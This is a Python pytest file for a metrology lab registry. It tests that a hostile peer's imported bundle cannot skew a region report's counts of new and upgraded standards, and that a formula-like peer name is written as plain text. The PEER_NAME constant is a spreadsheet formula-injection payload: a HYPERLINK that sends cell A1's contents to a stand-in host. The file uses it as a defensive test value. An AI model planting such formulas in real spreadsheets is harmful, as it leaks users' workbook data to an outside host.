"""What a hostile peer's bundle can do to the region report: nothing. Its records are counted
as its own, never with another institute's history, and its name, however formula-like, is
text in the workbook (SECURITY.md: formula injection)."""

from __future__ import annotations

import dataclasses
import datetime as dt
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlalchemy import text

from labregistry.registry import Registry
from labregistry.services import exchange, records, region_report
from tests.exchange import hostile
from tests.exchange.sites import make_site

ON = "2025-06-01"
PEER_NAME = '=HYPERLINK("http://x.example/?"&A1,"浙江省计量科学研究院")'


def _reissue(reg: Registry, inp: Any, **changes: Any) -> None:
    records.update(reg, "standard", records.resolve(reg, "standard", inp.certificate_no),
                   dataclasses.replace(inp, **changes))


def _with_uid(old: str, new: str) -> Any:
    """An edit that gives the bundle's standard ``old`` the record id ``new`` on every sheet."""
    def edit(rows: hostile.Rows) -> None:
        for sheet_rows in rows.values():
            for row in sheet_rows:
                row[:] = [new if v == old else v for v in row]
    return edit


@pytest.fixture(scope="module")
def report(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """Home A re-examined its 2022 standard in 2024 unchanged, then deleted it; a peer's first
    bundle brings a public standard certified in 2024 (new) under the record id A's had (no
    live record holds it, so the import takes it; A's change history of that id stays)."""
    tmp = tmp_path_factory.mktemp("hostile-region")
    home = make_site(tmp, "A").reg
    own = hostile.standard("精密压力表标准装置", "[2022]沪量标证字第0001号", issued_on="2022-01-10")
    records.create_standard(home, own)
    _reissue(home, own, issued_on="2024-01-10", valid_until="2029-01-09")
    own_uid = _uid(home, own.certificate_no)
    records.delete(home, "standard", records.resolve(home, "standard", own.certificate_no))  # its history stays
    for cert, changes in CHANGES.items():  # A's 2022 standards of discipline 04, re-issued in 2024
        old = hostile.standard("工作用玻璃液体温度计标准装置", cert, code="04113700", issued_on="2022-03-01",
                               range_text="(-30~300)℃", accuracy_text="U=0.05℃(k=2)")
        records.create_standard(home, old)
        _reissue(home, old, issued_on="2024-03-01", valid_until="2029-02-28", **changes)
    peer = hostile.peer(tmp, name=PEER_NAME, standards=(hostile.standard(
        "活塞式压力计标准装置", "[2024]浙量标证字第0101号", issued_on="2024-03-01", valid_until="2029-02-28"),))
    card, fingerprint = hostile.card(peer, tmp / "peer.card")
    exchange.trust_add(home, card, fingerprint)
    edit = _with_uid(_uid(peer, "[2024]浙量标证字第0101号"), own_uid)
    bundle = hostile.signed_bundle(peer, tmp / "peer.xlsx", edit=edit)
    assert exchange.import_bundle(home, bundle).applied
    out = region_report.write(home, tmp / "区域报告.xlsx", on=dt.date.fromisoformat(ON), language="zh")
    yield out
    home.close()
    peer.close()


CHANGES = {
    "[2022]沪量标证字第0401号": {"range_text": "(-30~100)℃"},  # narrowed: not an upgrade
    "[2022]沪量标证字第0402号": {"accuracy_text": "U=0.1℃(k=2)"},  # a larger uncertainty: not an upgrade
    "[2022]沪量标证字第0403号": {"range_text": "(-60~300)℃", "accuracy_text": "U=0.02℃(k=2)"},  # upgraded
}


def _uid(reg: Registry, certificate_no: str) -> str:
    with reg.engine.connect() as conn:
        return str(conn.execute(text("SELECT uid FROM standard WHERE certificate_no = :c"),
                                {"c": certificate_no}).scalar_one())


def _standards_by_province_and_discipline(report: Path) -> dict[tuple[Any, Any], list[Any]]:
    """The new/upgraded sheet's table under its second 省份 header: (province, discipline) to
    its four counts."""
    ws = load_workbook(report)["新建和升级标准"]
    rows = [list(r) for r in ws.iter_rows(values_only=True)]
    start = next(i for i, r in enumerate(rows) if r and r[0] == "省份" and i > 0)
    return {(r[0], r[1]): r[3:7] for r in rows[start + 1:] if r and r[0]}


def test_a_peers_standard_is_counted_by_its_own_history_not_by_a_record_id_it_shares(report: Path) -> None:
    found = _standards_by_province_and_discipline(report)
    # the peer's standard is new (its first certificate this home knows of is from 2024), not
    # re-examined by A's history (which left it out of the target)
    assert found[("浙江", "12")] == [1, 0, 0, 1], found


def test_upgraded_means_a_wider_range_or_a_better_accuracy_not_any_change(report: Path) -> None:
    """The plan counts standards set up or upgraded (升级): a re-issue that narrowed the range or
    worsened the accuracy changed the record but upgraded nothing."""
    found = _standards_by_province_and_discipline(report)
    assert found[("上海", "04")] == [0, 1, 2, 1], found


def test_a_formula_like_peer_name_is_text_in_every_sheet(report: Path) -> None:
    with zipfile.ZipFile(report) as zf:
        sheets = [n for n in zf.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets and not any("<f>" in zf.read(n).decode() or "<f " in zf.read(n).decode() for n in sheets)
    book = load_workbook(report)
    shown = [c for ws in book for row in ws.iter_rows() for c in row if c.value == PEER_NAME]
    assert shown and all(c.data_type == "s" for c in shown)
